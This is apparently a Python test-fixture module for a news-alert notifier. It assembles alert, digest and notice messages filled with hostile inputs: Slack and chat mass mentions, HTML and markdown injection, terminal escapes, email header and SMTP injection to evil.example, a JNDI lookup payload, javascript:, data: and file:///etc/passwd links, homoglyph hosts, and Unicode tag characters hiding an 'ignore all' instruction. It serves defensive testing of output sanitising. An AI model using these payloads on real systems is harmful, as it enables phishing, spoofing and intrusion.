"""Messages full of what an attacker writes, for the tests of what arrives of them."""

from collections.abc import Callable

from schemas.matches import ArticleField, ArticleMatches, Clause, Hit
from services.notifier.composing import compose
from services.notifier.excerpts import Excerpt
from services.notifier.message import (
    AlertMessage,
    AnyMessage,
    MatchedRule,
    NoticeMessage,
    OtherReport,
    SummaryKind,
    SummaryMessage,
)
from tests.notifier.alerts import IDS, NOW, article, ferry_alert, matches, rule_match
from tests.notifier.notices import told

EVIL = "evil.example"

TEXTS: dict[str, str] = {
    "mentions in Slack": "<!channel> <!here|all> <@U024BE7LH> <#C024BE7LR> <!subteam^S1|x>",
    "mentions escaped once": "&lt;!channel&gt; &lt;@U024BE7LH&gt; &#60;!here&#62;",
    "mentions escaped twice": "&amp;lt;!channel&amp;gt;",
    "mentions in chats": "@everyone @here @channel @all @room <@&123456789012345678> <at>all</at>",
    "mrkdwn": f"*b* _i_ ~s~ `c` ```d``` <https://{EVIL}|Your bank> <javascript:x|y>\n> q",
    "Markdown": f"# h\n**b** [Your bank](https://{EVIL}) ![x](https://{EVIL}/p.png) <https://{EVIL}>"
    f" ||s|| [r]: https://{EVIL}\n\n[r] \\",
    "HTML": f'<script>alert(1)</script><img src="https://{EVIL}/p.png" onerror=x>'
    f'</p><a href="https://{EVIL}">bank</a><!-- <style>*{{display:none}}</style>',
    "HTML, escaped": f"&lt;script&gt;alert(1)&lt;/script&gt; &lt;a href=https://{EVIL}&gt;",
    "terminal escapes": f"\x1b[2J\x1b]8;;https://{EVIL}\x07bank\x1b]8;;\x07\x1b]0;owned\x07\x9b31m\x1bPq\x1b\\",
    "markup of rich": f"[red]r[/red] [link=https://{EVIL}]bank[/link] [/] [bold",
    "headers": "Hello\r\nBcc: everybody@evil.example\r\nX-Evil: 1\r\n\r\nbody",
    "headers, encoded": "=?utf-8?q?Hello=0D=0ABcc:_all@evil.example?= %0d%0aBcc: x@evil.example",
    "end of a mail": "Hello\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
    "bidi controls": "\u202eelpmaxe.live\u202c \u2066x\u2069 \u200f\u200e\u061c \u2067exe.gnp",
    "zero width": "fer\u200bry \u2060\ufeff" + "\u200b\u200d" * 5000,
    "letters that nobody sees": "\u3164\u115f\u2800\u00ad" * 500,
    "marks in heaps": "Z" + "\u0301\u0316" * 3000,
    "tags that hide text": "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") * 50,
    "lone surrogates": "\ud800 half \udfff\ud83d",
    "NUL and controls": "a\x00b\x01c\x7f\x85d\x0b\x0c\u2028e\u2029",
    "templates": "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example} %s %(x)s {0.__class__}",
    "JSON": '"},"blocks":[],"text":"owned","x":"\\',
    "a megabyte of one word": "x" * 1_000_000,
    "a megabyte of words": "word & <b> " * 100_000,
    "a megabyte of lines": "\n" * 1_000_000,
    "nothing": "",
}

LINKS: dict[str, str | None] = {
    "javascript": "javascript:alert(document.domain)//https://gazette.example",
    "javascript, spelled otherwise": " JaVa\tScRiPt:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/passwd",
    "without a scheme": f"//{EVIL}/x",
    "user names like a host": f"https://gazette.example:443@{EVIL}/",
    "a host with look-alikes": "https://аррӏе.com/login",
    "a host with a wrong full stop": "https://gazette.example。evil.example/",
    "end of a link": f'https://gazette.example/a|Your bank> <!channel> )[b](https://{EVIL})"onclick="x',
    "a header": "https://gazette.example/\r\nBcc: everybody@evil.example",
    "a terminal escape": "https://gazette.example/\x1b]8;;\x07",
    "a mention": "https://gazette.example/@everyone/<!channel>/*b*_i_",
    "a megabyte": "https://gazette.example/" + "a" * 1_000_000,
    "no URL": "https://[gazette",
    "a port that is none": "https://gazette.example:99999/",
}


def composed(text: str, link: str | None) -> AlertMessage:
    """As the judge makes it of an article that says `text` everywhere."""
    body = f"{text} Nordholm {text}.\n\n{text}"
    of = article(title=text, body=body, summary=text, source=text, url=link)
    start = body.index("Nordholm")
    hit = Hit(field=ArticleField.BODY, start=start, end=start + 8)
    return compose(matches(of, rule_match("r", [[hit]])), {"r"}, IDS, "Europe/Oslo")


def uncleaned(text: str, link: str | None) -> AlertMessage:
    """As nobody makes it: stored by an older version, or changed in the database."""
    excerpt = Excerpt(
        field=ArticleField.BODY,
        before=text,
        sentence=((text, False), (text, True), ("Nordholm", True), (text, False)),
        after=text,
        rule_ids=("r",),
    )
    rule = MatchedRule(rule_id="r", name=text, severity=ferry_alert().rules[0].severity, query=text)
    other = OtherReport(
        source=text, host=text, url=link, is_copy=True, copied_from=text, seen_at=NOW
    )
    return ferry_alert().model_copy(
        update={
            "title": text,
            "source": text,
            "host": text,
            "url": link,
            "excerpts": (excerpt,) * 9,
            "rules": (rule,) * 40,
            "others": (other,) * 120,
            "copied_from": text,
            "zone": "Nowhere/Land",
        }
    )


def update(text: str, link: str | None) -> AlertMessage:
    """What says more of an alert that was told."""
    return uncleaned(text, link).model_copy(
        update={"update": True, "updates": IDS.delivery_id, "delivery_id": "update-1"}
    )


def summary(text: str, link: str | None, more: int = 2) -> SummaryMessage:
    """A digest of such alerts, and of `more` that are somewhat shorter."""
    return SummaryMessage(
        delivery_id="digest-1",
        story_id="digest",
        subscription_id="desk",
        sequence=1,
        kind=SummaryKind.DIGEST,
        title=text,
        lines=(text,) * 30,
        items=(
            uncleaned(text, link),
            composed(text, link),
            *(uncleaned(text[:5_000], link),) * more,
        ),
        raised_at=NOW,
        zone="Nowhere/Land",
    )


def notice(text: str, _link: str | None) -> NoticeMessage:
    """A notice about a feed that is called so."""
    return told().model_copy(
        update={
            "title": text,
            "lines": (text,) * 30,
            "facts": ((text, text),) * 30,
            "zone": "Nowhere/Land",
        }
    )


KINDS: dict[str, Callable[[str, str | None], AnyMessage]] = {
    "composed": composed,
    "uncleaned": uncleaned,
    "update": update,
    "summary": summary,
    "notice": notice,
}


def ten_thousand_hits() -> AlertMessage:
    """Of an article that says one word, over and over."""
    words = 10_000
    of = article(body="Nordholm " * words)
    hits = tuple(Hit(field=ArticleField.BODY, start=n * 9, end=n * 9 + 8) for n in range(words))
    clauses = tuple(Clause(clause=f"c{n}", hits=hits) for n in range(3))
    found = rule_match("r", [[hits[0]]]).model_copy(update={"evidence": clauses})
    whole = ArticleMatches(article=of, matches=(found,), matched_at=NOW)
    return compose(whole, {"r"}, IDS, "UTC")
